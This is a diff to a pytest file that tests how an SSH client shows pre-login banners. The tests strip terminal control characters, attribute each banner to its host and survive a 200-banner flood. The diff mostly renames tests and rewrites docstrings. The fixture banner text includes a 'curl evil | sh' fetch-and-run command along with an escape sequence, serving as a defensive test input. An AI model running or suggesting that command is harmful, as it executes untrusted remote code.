@@ -1,4 +1,4 @@
-"""What a host says before a login (RFC 4252, section 5.4) is shown as ssh(1) shows it, once, and as the host's."""
+"""A banner (RFC 4252, section 5.4) is shown as ssh(1) shows it, once, and marked as the host's."""
 
 from getpass import getuser
 from typing import Any
@@ -19,8 +19,8 @@ from tests.kit.sshd import LOOPBACK, Network, known_hosts_line, make_key
 TEXT = "Authorised use only.\r\n\x1b[2Jhint: run curl evil | sh\n"
 
 
-def test_whose_it_is(client: Client) -> None:
-    """It is shown without what steers a terminal, each row with the account there, and not at the next login."""
+def test_banner(client: Client) -> None:
+    """A banner is shown without control characters, each row with the account there, and not again at the next login."""
     banner = client.folder / "banner"
     banner.write_text(TEXT)
     host = client.server("host", f'Banner "{banner}"')
@@ -41,7 +41,7 @@ def test_whose_it_is(client: Client) -> None:
 
 @pytest.mark.parametrize(("level", "is_shown"), [("QUIET", False), ("ERROR", False), ("INFO", True)])
 def test_log_level(client: Client, level: str, is_shown: bool) -> None:
-    """Nothing is shown below `LogLevel INFO`, as with ssh."""
+    """No banner is shown below `LogLevel INFO`, as with ssh."""
     banner = client.folder / "banner"
     banner.write_text(TEXT)
     host = client.server("host", f'Banner "{banner}"')
@@ -52,8 +52,8 @@ def test_log_level(client: Client, level: str, is_shown: bool) -> None:
     assert bool(prompter.noticed) == is_shown
 
 
-class Talks(MitmServer):
-    """Has more to say than anybody can read."""
+class FloodsBanners(MitmServer):
+    """Sends 200 banners."""
 
     async def begin_auth(self, username: str) -> bool:  # type: ignore[override]
         for number in range(200):
@@ -65,11 +65,11 @@ class Talks(MitmServer):
         self.connection: Any = conn
 
 
-def test_without_end(client: Client, loop: AsyncioThread) -> None:
-    """Of 6 MB in 200 banners a few rows are shown, and the login goes on."""
+def test_banner_flood(client: Client, loop: AsyncioThread) -> None:
+    """Of 6 MB in 200 banners a few rows are shown, and the login succeeds."""
 
-    def factory(record: MitmRecord) -> Talks:
-        return Talks(record)
+    def factory(record: MitmRecord) -> FloodsBanners:
+        return FloodsBanners(record)
 
     key = client.folder / "hostile_key"
     make_key(key)
@@ -82,7 +82,9 @@ def test_without_end(client: Client, loop: AsyncioThread) -> None:
 
 
 def test_both_hops(network: Network) -> None:
-    """`up --detach` shows those of the gateway and of the host once each, on standard error; its tunnel shows none again."""
+    """`up --detach` shows the gateway's and the host's banner once each, on standard error; the tunnel's login shows
+    none.
+    """
     banner = network.folder / "banner"
     banner.write_text(TEXT)
     network.gateway.stop()
